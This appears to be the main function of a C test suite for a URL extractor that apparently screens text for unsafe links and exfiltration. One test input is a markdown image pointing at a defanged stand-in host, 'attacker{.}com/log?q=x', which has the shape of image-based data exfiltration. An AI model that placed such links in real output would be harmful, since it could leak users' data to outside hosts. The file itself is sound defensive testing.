main(void)
{
	TestPunycode();
	TestExtraction();
	TestContexts();
	TestHosts();
	TestNormalizeOne();
	TestSafety();
	TestExfiltration();
	TestLexical();
	TestUrlModel();
	TestWordSet();
	AgUrlListFree(&urls);
	/* defanged (.) and {.} hosts, and a long token with no URL costs one pass */
	CHECK(Extract("see evil(.)com now") == 1 && strcmp(urls.urls[0].url, "http://evil.com/") == 0,
		  "defanged (.): %d", urls.n);
	CHECK(Extract("![img](attacker{.}com/log?q=x)") == 1, "defanged {.} image: %d", urls.n);
	{
		size_t		n = 1000000;
		char	   *b = malloc(n + 1);

		for (size_t k = 0; k < n; k++)
			b[k] = (k % 2) ? ',' : 'a';
		b[n] = '\0';
		CHECK(AgUrlExtract(&urls, b, n) == 0, "1 MB of a,a,a finds no URL");
		free(b);
	}
	printf("%d passed, %d failed\n", passed, failed);
	return failed ? 1 : 0;
}
